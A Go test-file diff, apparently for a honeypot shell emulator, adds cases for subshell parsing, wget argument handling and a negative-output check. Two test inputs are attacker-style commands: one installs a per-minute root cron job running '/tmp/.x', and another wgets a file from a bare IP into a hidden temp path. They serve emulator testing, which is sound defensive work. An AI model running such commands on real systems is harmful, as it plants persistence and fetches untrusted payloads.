@@ -31,6 +31,7 @@ func TestCommands(t *testing.T) {
 		lines  []string // run in order; the last one is checked
 		want   string   // exact output, unless contains is set
 		has    []string
+		not    []string
 		code   int
 	}{
 		{name: "uname -a", distro: "debian", lines: []string{"uname -a"},
@@ -74,6 +75,12 @@ func TestCommands(t *testing.T) {
 		{name: "export env", distro: "debian", lines: []string{"export FOO=bar", "env | grep FOO"}, want: "FOO=bar\n"},
 		{name: "which", distro: "debian", lines: []string{"which wget ls"}, want: "/usr/bin/wget\n/usr/bin/ls\n"},
 		{name: "crontab", distro: "debian", lines: []string{"crontab -l"}, want: "no crontab for root\n", code: 1},
+		{name: "crontab from a subshell", distro: "debian", lines: []string{`(crontab -l 2>/dev/null; echo "* * * * * /tmp/.x") | crontab -`, "crontab -l"}, want: "* * * * * /tmp/.x\n"},
+		{name: "subshell keeps its directory", distro: "debian", lines: []string{"cd /root", "(cd /tmp; pwd); pwd"}, want: "/tmp\n/root\n"},
+		{name: "subshell exit", distro: "debian", lines: []string{"(exit 3); echo $?"}, want: "3\n"},
+		{name: "nested subshells", distro: "debian", lines: []string{`( (echo "a)b"; echo c) | wc -l )`}, want: "2\n"},
+		{name: "stray paren", distro: "debian", lines: []string{"echo )"}, has: []string{"syntax error"}, code: 2},
+		{name: "wget options after the URL", distro: "debian", lines: []string{"wget http://1.2.3.4/x -O /tmp/.x -q"}, has: []string{"Connecting to 1.2.3.4:80... failed"}, not: []string{"/tmp/.x"}, code: 4},
 		{name: "history", distro: "debian", lines: []string{"echo a", "history"}, want: "    1  echo a\n    2  history\n"},
 		{name: "free", distro: "debian", lines: []string{"free -m"}, has: []string{"Mem:", "Swap:"}},
 		{name: "ps", distro: "debian", lines: []string{"ps aux"}, has: []string{"/sbin/init", "sshd: root@pts/0"}},
@@ -110,6 +117,11 @@ func TestCommands(t *testing.T) {
 			for _, h := range tc.has {
 				if !strings.Contains(out, h) {
 					t.Errorf("output lacks %q:\n%s", h, out)
+				}
+			}
+			for _, h := range tc.not {
+				if strings.Contains(out, h) {
+					t.Errorf("output has %q:\n%s", h, out)
 				}
 			}
 			if code != tc.code {
